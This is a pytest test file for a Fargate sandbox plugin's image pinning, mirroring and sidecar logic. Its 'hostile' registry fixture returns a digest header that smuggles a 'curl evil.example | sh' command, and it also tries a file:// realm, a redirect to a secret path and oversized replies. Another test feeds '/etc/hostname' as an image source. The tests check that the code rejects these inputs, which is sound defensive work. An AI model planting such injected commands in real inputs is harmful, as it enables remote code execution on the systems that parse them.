"""Mirroring public images, and the sidecar's own image, against the engine and a registry of our own."""

from __future__ import annotations

import contextlib
import http.server
import json
import threading
import uuid
from typing import TYPE_CHECKING, Any

import boto3
import pytest

from pytest_fargate_sandbox.leaves.config import EcsFargateConfig, SshSidecarConfig
from pytest_fargate_sandbox.leaves.errors import ImageBuildError
from pytest_fargate_sandbox.leaves.names import SIDECAR_REFERENCE
from pytest_fargate_sandbox.plugin.tasks_as_tests.pinned_images import with_pinned_image
from pytest_fargate_sandbox.providers.aws.aws import Aws, Credentials, connect
from pytest_fargate_sandbox.providers.images.mirror import mirrored
from pytest_fargate_sandbox.providers.images.pinning import pinned
from pytest_fargate_sandbox.providers.images.public_registry import Reference, digest_of
from pytest_fargate_sandbox.providers.images.sidecar_build import _CONTEXT, _tag, sidecar_reference
from tests.real_podman import busybox_image, podman

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.local.engine_process import EngineProcess

_DIGEST = "sha256:" + "ab" * 32


class Registry(http.server.BaseHTTPRequestHandler):
    """What a registry answers to who asks for a digest: first with a challenge, then to the token."""

    challenge = True

    def do_HEAD(self) -> None:
        if self.challenge and self.headers.get("Authorization") != "Bearer let-me":
            self.send_response(401)
            realm = f"http://127.0.0.1:{self.server.server_address[1]}/token"
            self.send_header("WWW-Authenticate", f'Bearer realm="{realm}",service="s",scope="repository:a/b:pull"')
        else:
            self.send_response(200 if self.path == "/v2/a/b/manifests/1.2" else 404)
            self.send_header("Docker-Content-Digest", _DIGEST)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_GET(self) -> None:
        assert self.path == "/token?service=s&scope=repository%3Aa%2Fb%3Apull"
        body = json.dumps({"token": "let-me"}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def registry() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def aws(podman_engine: EngineProcess, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Aws:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    exports = podman_engine.exports
    return connect(
        region="us-east-1",
        endpoint_url=exports["AWS_ENDPOINT_URL"],
        credentials=Credentials(exports["AWS_ACCESS_KEY_ID"], exports["AWS_SECRET_ACCESS_KEY"]),
    )


@pytest.mark.parametrize(
    ("text", "pinned"),
    [
        ("python", "docker.io/library/python:latest"),
        ("python:3.12-slim", "docker.io/library/python:3.12-slim"),
        ("docker.io/python:3", "docker.io/library/python:3"),
        ("me/app:1", "docker.io/me/app:1"),
        ("localhost:5000/a/b", "localhost:5000/a/b:latest"),
        ("ghcr.io/a/b:c", "ghcr.io/a/b:c"),
        (f"quay.io/a/b@{_DIGEST}", f"quay.io/a/b@{_DIGEST}"),
        (f"python:3@{_DIGEST}", f"docker.io/library/python@{_DIGEST}"),
    ],
)
def test_a_reference_reads_as_docker_reads_it(text: str, pinned: str) -> None:
    assert Reference.parse(text).pinned == pinned


def test_the_digest_of_a_tag_is_asked_without_an_account(registry: str) -> None:
    assert digest_of(Reference.parse(f"{registry}/a/b:1.2")) == _DIGEST
    assert digest_of(Reference.parse(f"{registry}/a/b:none")) == ""


def _no_aws(region: str) -> Aws:
    raise AssertionError(f"{region} was asked")


def test_a_tag_is_what_it_was_when_the_run_first_had_it(registry: str, tmp_path: Path) -> None:
    image = f"{registry}/a/b:1.2"
    assert pinned(image, tmp_path, _no_aws) == f"{registry}/a/b@{_DIGEST}"
    (known,) = tmp_path.glob("digest-*.json")
    known.write_text(known.read_text().replace("ab", "cd"))  # by a process that came first
    assert pinned(image, tmp_path, _no_aws) == f"{registry}/a/b@{_DIGEST.replace('ab', 'cd')}"


@pytest.mark.parametrize(
    "image", ["host", "127.0.0.1:9/a/b:1", "1.dkr.ecr.us-east-1.amazonaws.com/a:1", f"a@{_DIGEST}"]
)
def test_what_no_registry_tells_of_stays_as_it_is(image: str, tmp_path: Path) -> None:
    assert pinned(image, tmp_path, _no_aws) == image


def test_a_registry_out_of_reach_tells_no_digest() -> None:
    assert digest_of(Reference.parse("127.0.0.1:9/a/b:1")) == ""


@pytest.fixture
def hostile() -> Iterator[tuple[str, list[str]]]:
    """A registry that a task's folder has named, and what it was asked."""
    asked: list[str] = []

    class Hostile(http.server.BaseHTTPRequestHandler):
        def do_HEAD(self) -> None:
            asked.append(self.path)
            name = self.path.split("/")[2]
            if name == "words":
                self.wfile.write(b"what was that?\r\n" * 100)
                return
            if name == "elsewhere":
                self.send_response(307)
                self.send_header("Location", f"http://localhost:{self.server.server_address[1]}/secret")
                self.end_headers()
                return
            self.send_response(200 if name == "digest" or "Authorization" in self.headers else 401)
            here = f"http://127.0.0.1:{self.server.server_address[1]}"
            realms = {"file": f"file://{__file__}", "no-words": "a" * 60_000}
            self.send_header("WWW-Authenticate", f'Bearer realm="{realms.get(name, here + "/" + name)}"')
            self.send_header("Docker-Content-Digest", 'sha256:x"; curl evil.example | sh; "')
            self.end_headers()

        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            if self.path.startswith("/list"):
                self.wfile.write(b"[1]")
                return
            with contextlib.suppress(OSError):
                for _ in range(4096):
                    self.wfile.write(b" " * 65536)
                asked.append("all of it was taken")

        def log_message(self, *_: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.parametrize("name", ["digest", "words", "file", "no-words", "endless", "list", "elsewhere"])
def test_a_registry_that_lies_tells_no_digest(hostile: tuple[str, list[str]], name: str) -> None:
    host, asked = hostile
    assert digest_of(Reference.parse(f"{host}/{name}/b:1")) == ""
    assert asked
    assert "all of it was taken" not in asked
    assert "/secret" not in asked


def test_no_file_of_this_machine_is_copied_as_an_image(aws: Aws) -> None:
    with pytest.raises(ImageBuildError) as met:
        mirrored(EcsFargateConfig(cluster="local", mirror_images=True), "docker-archive:/etc/hostname:a:b", aws=aws)
    assert "invalid reference format" in str(met.value.log_tail)


def test_an_image_is_copied_once_and_run_from_there(aws: Aws, tmp_path: Path) -> None:
    source = f"localhost/t{uuid.uuid4().hex[:10]}:1"
    podman().run("tag", busybox_image(), source)
    cfg = EcsFargateConfig(cluster="local", mirror_images=True)
    (tmp_path / "run").mkdir()
    before = len(aws.call("codebuild", "ListBuilds")["ids"])
    try:
        first = mirrored(cfg, source, aws=aws, shared_dir=tmp_path / "run")
        again = mirrored(cfg, source, aws=aws)
        builds = aws.call("codebuild", "ListBuilds")["ids"]
        assert first == again
        assert first.startswith("123456789012.dkr.ecr.us-east-1.amazonaws.com/fargate-sandbox:mirror-t")
        assert len(builds) == before + 1
        assert podman().succeeds("image", "inspect", first)
        assert mirrored(cfg, first, aws=aws) == first
        podman().succeeds("rmi", "-f", first)
    finally:
        podman().succeeds("rmi", source)


def test_tasks_are_launched_by_digest_but_on_the_embedded_engine(registry: str, pytester: pytest.Pytester) -> None:
    image = f"{registry}/a/b:1.2"
    for cluster, launched in (("bench", f"{registry}/a/b@{_DIGEST}"), ("local", image)):
        config = pytester.parseconfigure("--fargate-tasks", f"--fargate-cluster={cluster}")
        assert with_pinned_image(lambda **keys: keys["image"], config)(image=image) == launched


def test_a_private_tag_is_what_ecr_says_it_is(
    podman_engine: EngineProcess, pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the caller's credentials, where the registry is, which need not be where the cluster is."""
    for name, value in podman_engine.exports.items():
        monkeypatch.setenv(name, value)
    ecr = boto3.client("ecr", region_name="eu-west-1")
    ecr.create_repository(repositoryName="pinned/x")

    def put(number: int) -> str:
        manifest = {
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "layers": [],
            "n": number,
        }
        answer = ecr.put_image(repositoryName="pinned/x", imageManifest=json.dumps(manifest), imageTag="1")
        return str(answer["image"]["imageId"]["imageDigest"])

    repository = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/pinned/x"
    first = put(1)
    for expected in (first, put(2)):
        config = pytester.parseconfigure("--fargate-tasks", "--fargate-cluster=bench")
        launched = with_pinned_image(lambda **keys: keys["image"], config)
        assert launched(image=f"{repository}:1") == f"{repository}@{expected}"
        assert launched(image=f"{repository}:none") == f"{repository}:none"
        put(3)
        assert launched(image=f"{repository}:1") == f"{repository}@{expected}", "it is what it was"
        put(2)


@pytest.mark.parametrize("image", ["host", "", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/a:b"])
def test_what_is_no_public_image_is_left_as_it_is(aws: Aws, image: str) -> None:
    assert mirrored(EcsFargateConfig(cluster="local", mirror_images=True), image, aws=aws) == image


def test_nothing_is_mirrored_unless_asked_for(aws: Aws) -> None:
    assert mirrored(EcsFargateConfig(cluster="local"), "python:3", aws=aws) == "python:3"


def test_the_sidecar_is_our_own_image_once_it_was_built(aws: Aws, podman_engine: EngineProcess) -> None:
    cfg = EcsFargateConfig(cluster="far", ecr_repository="sidecars", ssh_sidecar=SshSidecarConfig())
    aws.call("ecr", "CreateRepository", repositoryName="sidecars")
    other = EcsFargateConfig(cluster="far", ecr_repository="nowhere", ssh_sidecar=SshSidecarConfig())
    assert sidecar_reference(other, aws) == SIDECAR_REFERENCE

    manifest = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "layers": []}
    podman_engine.client("ecr").put_image(
        repositoryName="sidecars", imageManifest=json.dumps(manifest), imageTag=_tag(cfg)
    )
    image = sidecar_reference(cfg, aws)
    assert image == f"123456789012.dkr.ecr.us-east-1.amazonaws.com/sidecars:{_tag(cfg)}"

    aws.call("ecr", "DeleteRepository", repositoryName="sidecars", force=True)
    assert sidecar_reference(cfg, aws) == image, "ECR is not asked again"


def test_a_configured_sidecar_wins_and_the_engine_has_its_own(aws: Aws) -> None:
    own = EcsFargateConfig(cluster="far", ecr_repository="r", ssh_sidecar=SshSidecarConfig(image="mine:1"))
    assert sidecar_reference(own, aws) == "mine:1"
    local = EcsFargateConfig(cluster="local", ecr_repository="r", ssh_sidecar=SshSidecarConfig())
    assert sidecar_reference(local, aws) == SIDECAR_REFERENCE


def test_the_sidecars_image_is_made_of_the_one_that_it_replaces() -> None:
    assert f"FROM {SIDECAR_REFERENCE}\n" in (_CONTEXT / "Dockerfile").read_text()
